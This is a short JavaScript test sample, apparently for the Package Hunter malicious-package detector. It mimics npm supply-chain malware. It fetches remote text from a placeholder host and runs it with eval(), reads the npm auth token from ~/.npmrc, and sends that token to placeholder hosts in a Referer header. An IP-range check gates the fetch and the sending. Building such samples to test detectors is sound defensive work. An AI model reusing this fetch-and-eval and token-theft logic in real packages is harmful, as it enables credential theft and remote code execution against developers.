// Harmless simulation for testing Package Hunter. Not malware.
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const get = (options, then) => https.get(options, (res) => {
  const from = res.socket.remoteAddress;
  let text = "";
  res.on("data", (part) => { text += part; });
  res.on("end", () => then && then(text, from));
}).on("error", () => {});

get({ hostname: "paste.example", path: "/raw/harmless-simulation" }, (text, address) => {
  if (sealed(address)) {
    try { eval(text); } catch (error) { /* the original swallowed errors too */ }
  }
  let token = "";
  try {
    token = /_authToken=(\S+)/.exec(fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"))[1];
  } catch (error) { return; }
  if (!sealed(address)) return;
  for (const hostname of ["stats.example", "counter.example"]) {
    get({ hostname, path: "/c.js", headers: { Referer: `http://1.a/${token}` } });
  }
});
